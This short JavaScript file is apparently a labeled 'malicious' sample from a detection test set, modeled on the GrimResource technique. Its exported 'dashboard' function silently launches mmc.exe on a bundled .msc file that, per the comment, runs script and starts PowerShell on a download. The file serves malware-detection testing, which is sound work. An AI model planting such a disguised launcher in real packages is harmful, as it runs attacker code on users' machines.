// expect: malicious
// source: GrimResource (Elastic Security Labs, 2024) in a package: a performance "dashboard" console whose view runs
// JavaScript through apds.dll's redirect page; its XSL's VBScript starts PowerShell on a download (blind set 44, 2026)
const { spawn } = require('child_process');
const path = require('path');
exports.openDashboard = () => spawn('mmc.exe', [path.join(__dirname, 'templates', 'dashboard.msc')], { detached: true, stdio: 'ignore' }).unref();
